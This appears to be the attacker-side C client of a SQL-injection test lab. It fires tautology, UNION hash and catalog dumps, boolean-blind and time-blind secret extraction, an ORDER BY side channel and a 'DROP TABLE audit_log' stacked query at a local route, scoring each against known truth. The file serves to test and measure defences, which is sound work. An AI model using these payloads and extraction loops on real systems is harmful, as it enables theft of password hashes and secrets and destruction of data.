/*
 * client.c — the attacker's side: a blocking HTTP GET (common/http_client.h), the
 * classic payloads, and the attacks, each counted against the truth the lab read as the schema's
 * owner (a leaked row is one whose owner is not the caller, a leaked hash one that matches a user's
 * real hash, a leaked character one that matches the secret at its place).
 */
#include <event2/http.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "hist.h"
#include "http_client.h"
#include "internal.h"

#define TIMEOUT_MS 8000
/* bits of a character of the secret ([a-z0-9] is ASCII: 7) */
#define CHAR_BITS 7

/* The payloads, as an attacker types them into the search box. */
static const char P_BASELINE[] = "plan";
static const char P_TAUTOLOGY[] = "' OR '1'='1' --";
static const char P_UNION_HASHES[] = "' UNION SELECT id, 0, username || ':' || password_hash FROM users --";
static const char P_UNION_CATALOG[] = "' UNION SELECT oid::bigint, 0, relname::text FROM pg_class"
                                      " WHERE relnamespace = '" SCHEMA "'::regnamespace AND relkind = 'r' --";
/* true (the caller's notes come back) when the character at %d is above %d */
static const char P_BLIND_BOOL[] = "' AND ascii(substr((SELECT value FROM secrets LIMIT 1), %d, 1)) > %d --";
/* slow when bit %d of the character at %d is 1: an InitPlan, run once per request */
static const char P_BLIND_TIME[] = "' AND (SELECT CASE WHEN ascii(substr(value, %d, 1)) & %d <> 0 THEN"
                                   " (SELECT count(*) FROM pg_sleep(%.3f)) = 1 ELSE true END FROM secrets"
                                   " LIMIT 1) --";
static const char P_STACKED[] = "'; DROP TABLE audit_log; --";
/* ?sort=: by title when the bit is 1, by id when it is 0 */
static const char P_ORDER[] = "(CASE WHEN ascii(substr((SELECT value FROM secrets LIMIT 1), %d, 1)) & %d <> 0"
                              " THEN title ELSE lpad(id::text, 20, '0') END)";

static const char *const TABLES[] = {"users", "notes", "secrets", "audit_log"};

/* One search; the parsed body (NULL when not JSON) for the caller to read and free. */
static json_t *ask(struct sqli_client *c, const char *q, const char *sort, const char *dir, int *status,
                   char *err, size_t errlen)
{
	char target[4096];
	/* percent-encoded by libevent: everything but RFC 3986's unreserved characters */
	char *eq = evhttp_uriencode(q ? q : "", -1, 0), *es = evhttp_uriencode(sort ? sort : "", -1, 0),
	     *ed = evhttp_uriencode(dir ? dir : "", -1, 0);
	int n = eq && es && ed
	                ? snprintf(target, sizeof(target), "%s?user=%d%s%s%s%s%s%s", c->route, SQLI_CALLER,
	                           q ? "&q=" : "", eq, sort ? "&sort=" : "", es, dir ? "&dir=" : "", ed)
	                : -1;
	free(eq);
	free(es);
	free(ed);
	if (n < 0 || (size_t)n >= sizeof(target)) {
		snprintf(err, errlen, "a payload does not fit a request");
		return NULL;
	}
	if (http_get(c->port, target, TIMEOUT_MS, status, c->body, SQLI_BODY_MAX, err, errlen) < 0)
		return NULL;
	err[0] = '\0';
	return json_loads(c->body, 0, NULL);
}

int sqli_search(struct sqli_client *c, const char *q, const char *sort, const char *dir, int *status,
                int *rows, int64_t *first, char *err, size_t errlen)
{
	json_t *doc = ask(c, q, sort, dir, status, err, errlen);
	if (!doc && err[0])
		return -1;
	json_t *notes = json_object_get(doc, "notes");
	*rows = *status == 200 && json_is_array(notes) ? (int)json_array_size(notes) : -1;
	*first = *rows > 0 ? (int64_t)json_integer_value(json_object_get(json_array_get(notes, 0), "id")) : 0;
	json_decref(doc);
	return 0;
}

/* What the notes of one answer leak for attack a, counted against the truth. */
static int count_leaks(const struct sqli_client *c, enum sqli_attack a, json_t *notes)
{
	int leaked = 0;
	size_t i, k;
	json_t *n;
	json_array_foreach(notes, i, n)
	{
		const char *title = json_string_value(json_object_get(n, "title"));
		json_int_t owner = json_integer_value(json_object_get(n, "owner"));
		if ((a == SQLI_BASELINE || a == SQLI_TAUTOLOGY) && owner != SQLI_CALLER)
			leaked++;
		for (k = 0; a == SQLI_UNION_HASHES && title && k < (size_t)c->truth->nhashes; k++)
			leaked += !strcmp(title, c->truth->hashes[k]);
		for (k = 0; a == SQLI_UNION_CATALOG && title && owner == 0 && k < 4; k++)
			leaked += !strcmp(title, TABLES[k]);
	}
	return leaked;
}

/* One request of attack a into o: status, rows, the server's error. *rows -1: not a 200 page. */
static int one(struct sqli_client *c, enum sqli_attack a, const char *q, struct sqli_outcome *o, int *rows,
               char *err, size_t errlen)
{
	int status = 0;
	json_t *doc = ask(c, q, NULL, NULL, &status, err, errlen);
	if (!doc && err[0])
		return -1;
	o->requests++;
	o->status = status;
	json_t *notes = json_object_get(doc, "notes");
	*rows = status == 200 && json_is_array(notes) ? (int)json_array_size(notes) : -1;
	if (*rows > 0) {
		o->rows += *rows;
		o->leaked += count_leaks(c, a, notes);
	}
	const char *e = json_string_value(json_object_get(doc, "error"));
	if (status != 200)
		snprintf(o->said, sizeof(o->said), "%s", e ? e : "");
	json_decref(doc);
	return 0;
}

static int prefix_right(const char *read, const char *truth)
{
	int n = 0;
	while (read[n] && read[n] == truth[n])
		n++;
	return n;
}

/* Boolean-blind: a bisection of 0..127 per character (7 requests), until a character reads 0. */
static int blind_bool(struct sqli_client *c, struct sqli_route_run *run, char *err, size_t errlen)
{
	struct sqli_outcome *o = &run->a[SQLI_BLIND_BOOL];
	char q[256];
	int pos = 0, rows;
	for (; pos < SQLI_SECRET_MAX; pos++) {
		int lo = 0, hi = 127;
		while (lo < hi) {
			int mid = (lo + hi) / 2;
			snprintf(q, sizeof(q), P_BLIND_BOOL, pos + 1, mid);
			struct sqli_outcome probe = {0};
			if (one(c, SQLI_BLIND_BOOL, q, &probe, &rows, err, errlen) < 0)
				return -1;
			o->requests++, o->status = probe.status;
			if (probe.said[0])
				snprintf(o->said, sizeof(o->said), "%s", probe.said);
			if (rows > 0)
				lo = mid + 1;
			else
				hi = mid;
		}
		if (lo == 0)
			break;
		run->secret_read[pos] = (char)lo;
	}
	run->secret_read[pos] = '\0';
	o->leaked = prefix_right(run->secret_read, c->truth->secret);
	o->attempted = (int)strlen(c->truth->secret);
	return 0;
}

/* Time-blind: a request per bit, slow when it is 1; the threshold halfway above a plain request. */
static int blind_time(struct sqli_client *c, struct sqli_route_run *run, char *err, size_t errlen)
{
	struct sqli_outcome *o = &run->a[SQLI_BLIND_TIME];
	const struct sqli_config *cfg = c->cfg;
	char q[512];
	int rows;
	double plain = 1e9;
	for (int i = 0; i < 5; i++) {
		struct sqli_outcome probe = {0};
		uint64_t t0 = hist_now_us();
		if (one(c, SQLI_BASELINE, P_BASELINE, &probe, &rows, err, errlen) < 0)
			return -1;
		double ms = (hist_now_us() - t0) / 1000.0;
		plain = ms < plain ? ms : plain;
		o->requests++;
	}
	double threshold = plain + cfg->sleep_ms / 2.0;
	int chars = cfg->time_chars < (int)strlen(c->truth->secret) ? cfg->time_chars
	                                                            : (int)strlen(c->truth->secret);
	uint64_t t0 = hist_now_us();
	for (int pos = 0; pos < chars; pos++) {
		int ch = 0;
		for (int bit = 0; bit < CHAR_BITS; bit++) {
			snprintf(q, sizeof(q), P_BLIND_TIME, pos + 1, 1 << bit, cfg->sleep_ms / 1000.0);
			struct sqli_outcome probe = {0};
			uint64_t t1 = hist_now_us();
			if (one(c, SQLI_BLIND_TIME, q, &probe, &rows, err, errlen) < 0)
				return -1;
			o->requests++, o->status = probe.status;
			if (probe.said[0])
				snprintf(o->said, sizeof(o->said), "%s", probe.said);
			if ((hist_now_us() - t1) / 1000.0 > threshold)
				ch |= 1 << bit;
			sqli_progress(cfg, "time-blind", (pos * CHAR_BITS + bit + 1.0) / (chars * CHAR_BITS));
		}
		o->leaked += ch == c->truth->secret[pos];
	}
	o->attempted = chars;
	run->time_errors = chars - o->leaked;
	run->time_bit_ms = chars ? (hist_now_us() - t0) / 1000.0 / (chars * CHAR_BITS) : 0;
	return 0;
}

int sqli_order_attack(struct sqli_client *c, int chars, struct sqli_order_count *o, char *err, size_t errlen)
{
	int status, rows;
	int64_t by_title, by_id, first;
	/* the two orders the channel tells apart, from the route itself */
	if (sqli_search(c, "", "title", "asc", &status, &rows, &by_title, err, errlen) < 0 ||
	    sqli_search(c, "", "id", "asc", &status, &rows, &by_id, err, errlen) < 0)
		return -1;
	if (by_title == by_id || by_id == 0) {
		snprintf(err, errlen, "the caller's notes do not order differently by title and by id");
		return -1;
	}
	char sort[512];
	int n = (int)strlen(c->truth->secret);
	for (int pos = 0; pos < chars && pos < n; pos++)
		for (int bit = 0; bit < CHAR_BITS; bit++) {
			snprintf(sort, sizeof(sort), P_ORDER, pos + 1, 1 << bit);
			if (sqli_search(c, "", sort, "asc", &status, &rows, &first, err, errlen) < 0)
				return -1;
			o->requests++;
			o->status400 += status == 400;
			if (rows <= 0 || (first != by_title && first != by_id))
				continue;
			o->answered++;
			bool one_bit = first == by_title, truth = (c->truth->secret[pos] >> bit) & 1;
			o->right += one_bit == truth;
		}
	return 0;
}

int sqli_attack_all(struct sqli_client *c, struct sqli_route_run *run, char *err, size_t errlen)
{
	static const struct {
		enum sqli_attack a;
		const char *q;
	} SINGLE[] = {{SQLI_BASELINE, P_BASELINE},
	              {SQLI_TAUTOLOGY, P_TAUTOLOGY},
	              {SQLI_UNION_HASHES, P_UNION_HASHES},
	              {SQLI_UNION_CATALOG, P_UNION_CATALOG}};
	int rows;
	for (size_t i = 0; i < sizeof(SINGLE) / sizeof(SINGLE[0]); i++) {
		uint64_t t0 = hist_now_us();
		if (one(c, SINGLE[i].a, SINGLE[i].q, &run->a[SINGLE[i].a], &rows, err, errlen) < 0)
			return -1;
		run->a[SINGLE[i].a].ms = (hist_now_us() - t0) / 1000.0;
	}
	uint64_t t0 = hist_now_us();
	if (blind_bool(c, run, err, errlen) < 0)
		return -1;
	run->a[SQLI_BLIND_BOOL].ms = (hist_now_us() - t0) / 1000.0;
	t0 = hist_now_us();
	if (blind_time(c, run, err, errlen) < 0)
		return -1;
	run->a[SQLI_BLIND_TIME].ms = (hist_now_us() - t0) / 1000.0;
	t0 = hist_now_us();
	struct sqli_outcome *s = &run->a[SQLI_STACKED];
	if (one(c, SQLI_STACKED, P_STACKED, s, &rows, err, errlen) < 0)
		return -1;
	s->ms = (hist_now_us() - t0) / 1000.0;
	int exists = sqli_table_exists(c->cfg, err, errlen);
	if (exists < 0)
		return -1;
	run->table_dropped = !exists;
	s->leaked = run->table_dropped;
	s->attempted = 1;
	return 0;
}
